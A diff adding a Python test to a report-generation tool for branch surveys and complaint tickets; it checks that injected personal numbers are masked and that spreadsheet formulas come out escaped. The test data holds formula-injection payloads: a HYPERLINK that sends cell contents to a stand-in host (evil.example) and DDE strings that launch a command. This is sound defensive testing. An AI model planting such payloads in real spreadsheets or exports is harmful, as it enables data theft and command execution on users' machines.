@@ -183,3 +183,56 @@ def test_sample_plan_makes_no_empty_report(tmp_path):
     guiyang = (run_dir / "贵阳" / "02_root_cause_pareto.html").read_text(encoding="utf-8")
     assert "三道防线" not in guiyang and "三道防线" in (run_dir / "潮安" / "02_root_cause_pareto.html").read_text(
         encoding="utf-8")
+
+
+# Personal numbers in every written form, and spreadsheet formulas, injected into one
+# branch's data: none may come out unmasked or live in any output of the batch.
+_SUMMARY = ("联系 139 8765 4321 或 +86-135-2468-1357，备用 １３６１２３４５６７８；身份证 11010519491231002X；"
+            "邮箱 zhang.san@example.com；座机 (020)87654321")
+_UNMASKED = re.compile(r"8765[ -]?4321|2468[ -]?1357|１２３４５６７８|19491231|zhang\.san@|0000[ -]?1111")
+_HALLS = {"庵埠": '=HYPERLINK("http://evil.example/?d="&A1,"庵埠")', "彩塘": "@SUM(1+1)*cmd|' /C calc'!A0",
+          "金石": "$x^$ 厅 137 0000 1111"}
+
+
+def test_no_personal_number_or_formula_in_any_output(data_copy, tmp_path):
+    import openpyxl
+
+    survey_path = data_copy / "hall_survey.csv"
+    survey = pd.read_csv(survey_path, dtype=str)
+    mine = survey["branch"] == "潮安"
+    assert set(_HALLS) <= set(survey.loc[mine, "hall"])
+    survey.loc[mine, "hall"] = survey.loc[mine, "hall"].replace(_HALLS)
+    below = survey["hall"].isin(list(_HALLS.values()))   # listed among the halls below target
+    survey.loc[below, "satisfied"] = (survey.loc[below, "responses"].astype(int) * 4 // 5).astype(str)
+    subtotal = pd.DataFrame([{"period": "2008-01", "branch": "潮安", "hall": "小计",
+                              "responses": "9999", "satisfied": "9000"}])
+    pd.concat([survey, subtotal]).to_csv(survey_path, index=False)
+    tickets = pd.read_parquet(data_copy / "tickets.parquet")
+    mine = tickets["branch"] == "潮安"
+    tickets.loc[mine, "summary"] = _SUMMARY
+    tickets.loc[tickets.index[mine][:40], "category"] = "+cmd|' /C calc'!A0"
+    tickets.to_parquet(data_copy / "tickets.parquet", index=False)
+
+    args = ["run", "--branches", "潮安", "--notebooks", "01", "05", "--data", str(data_copy),
+            "--out", str(tmp_path / "reports"), "--workers", "2", "--no-progress", "--format", "html", "xlsx"]
+    assert cli.main(args) == 0
+    (run_dir,) = (tmp_path / "reports").iterdir()
+    outputs = [p for p in run_dir.rglob("*") if p.suffix in (".html", ".json", ".ipynb", ".csv")]
+    assert len(outputs) >= 7
+    for path in outputs:
+        text = path.read_text(encoding="utf-8")
+        found = _UNMASKED.findall(text)
+        assert not found, f"{path.name} shows unmasked numbers: {found[:3]}"
+    page = (run_dir / "潮安" / "01_baseline.html").read_text(encoding="utf-8")
+    assert "小计" in page and "未计入任何数字" in page        # the subtotal row is named, not counted
+    assert "139 **** 4321" in (run_dir / "潮安" / "05_complaint_handling.html").read_text(encoding="utf-8")
+
+    book = openpyxl.load_workbook(run_dir / "潮安" / "潮安.xlsx")
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    live = [t for t in texts if t.lstrip(" ")[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not live, live[:3]
+    assert any(t.startswith(("'=HYPERLINK", "'@SUM", "'+cmd")) for t in texts)  # the payloads got there
+    assert not _UNMASKED.findall(" ".join(texts))
+    assert any(isinstance(c.value, (int, float)) for c in cells)     # numbers stay numbers
